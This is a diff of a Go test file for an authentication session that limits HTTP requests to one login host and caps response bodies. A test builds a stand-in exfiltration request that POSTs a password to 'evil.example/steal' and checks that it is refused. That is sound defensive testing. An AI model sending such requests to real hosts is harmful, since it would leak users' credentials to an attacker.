@@ -7,15 +7,17 @@ import (
 	"net/url"
 	"strings"
 	"testing"
+
+	"github.com/setupwizard/setupwizard/internal/providers/provider"
 )
 
 func TestParseAuthority(t *testing.T) {
 	good := []struct{ in, host, prefix, tenant, policy string }{
-		{DefaultAuthority, "gdhvb2cflameconnect.b2clogin.com:443", "", fcTenant, fcPolicy},
+		{DefaultAuthority, "gdhvb2cflameconnect.b2clogin.com", "", fcTenant, fcPolicy},
 		{"https://127.0.0.1:8443/t.onmicrosoft.com/B2C_1A_X/", "127.0.0.1:8443", "", "t.onmicrosoft.com", "B2C_1A_X"},
-		{"https://HOST.example/t/p", "host.example:443", "", "t", "p"},
+		{"https://HOST.example/t/p", "HOST.example", "", "t", "p"},
 		// A proxy prefix: MSAL Go v1.10.1 reads {authority}/v2.0/.well-known/... at any depth.
-		{"https://proxy.example/b2c/eu/t/p/", "proxy.example:443", "/b2c/eu", "t", "p"},
+		{"https://proxy.example/b2c/eu/t/p/", "proxy.example", "/b2c/eu", "t", "p"},
 	}
 	for _, tc := range good {
 		a, err := parseAuthority(tc.in)
@@ -41,8 +43,10 @@ func TestParseAuthority(t *testing.T) {
 	}
 }
 
-func TestAuthorityAllows(t *testing.T) {
-	a := testAuthority(t)
+// The session built for an authority lets requests go to its https host
+// only (any spelling of it), whoever builds them.
+func TestSessionAllowsOnlyTheAuthority(t *testing.T) {
+	sess := newSession(provider.Options{}, testAuthority(t), nil)
 	for raw, want := range map[string]bool{
 		"https://login.example:8443/x":   true,
 		"https://LOGIN.example:8443/x":   true,
@@ -52,8 +56,8 @@ func TestAuthorityAllows(t *testing.T) {
 		"https://u@login.example:8443/x": false,
 	} {
 		u, _ := url.Parse(raw)
-		if got := a.allows(u); got != want {
-			t.Errorf("allows(%s) = %v, want %v", raw, got, want)
+		if got := sess.Allowed(u); got != want {
+			t.Errorf("Allowed(%s) = %v, want %v", raw, got, want)
 		}
 	}
 }
@@ -68,26 +72,29 @@ func (s *stubTransport) RoundTrip(*http.Request) (*http.Response, error) {
 	return &http.Response{StatusCode: 200, Body: io.NopCloser(strings.NewReader(s.body)), Header: http.Header{}}, nil
 }
 
-func TestGuardRefusesOtherHostsAndCapsBodies(t *testing.T) {
+// MSAL's requests go through the session's client: a foreign host is
+// refused before the wire, and bodies are capped at maxBody.
+func TestSessionClientRefusesOtherHostsAndCapsBodies(t *testing.T) {
 	next := &stubTransport{body: strings.Repeat("x", maxBody+1)}
-	g := guard{auth: testAuthority(t), next: next}
+	opts := provider.Options{Wrap: func(http.RoundTripper) http.RoundTripper { return next }}
+	c := newSession(opts, testAuthority(t), nil).Client()
 	req, _ := http.NewRequest("POST", "https://evil.example/steal", strings.NewReader("password=x"))
-	if _, err := g.RoundTrip(req); !errors.Is(err, errForeignHost) {
+	if _, err := c.Do(req); !errors.Is(err, provider.ErrForeignHost) {
 		t.Fatalf("foreign host: %v", err)
 	}
 	if next.calls != 0 {
-		t.Fatal("the guard let a foreign request through")
+		t.Fatal("the session let a foreign request through")
 	}
 	req, _ = http.NewRequest("GET", "https://login.example:8443/big", nil)
-	resp, err := g.RoundTrip(req)
+	resp, err := c.Do(req)
 	if err != nil {
 		t.Fatal(err)
 	}
-	if _, err := io.ReadAll(resp.Body); !errors.Is(err, errBodyTooLarge) {
+	if _, err := io.ReadAll(resp.Body); !errors.Is(err, provider.ErrBodyTooLarge) {
 		t.Fatalf("oversized body: %v", err)
 	}
 	next.body = strings.Repeat("x", maxBody)
-	resp, _ = g.RoundTrip(req)
+	resp, _ = c.Do(req)
 	if b, err := io.ReadAll(resp.Body); err != nil || len(b) != maxBody {
 		t.Fatalf("a body of exactly the cap: %d bytes, %v", len(b), err)
 	}
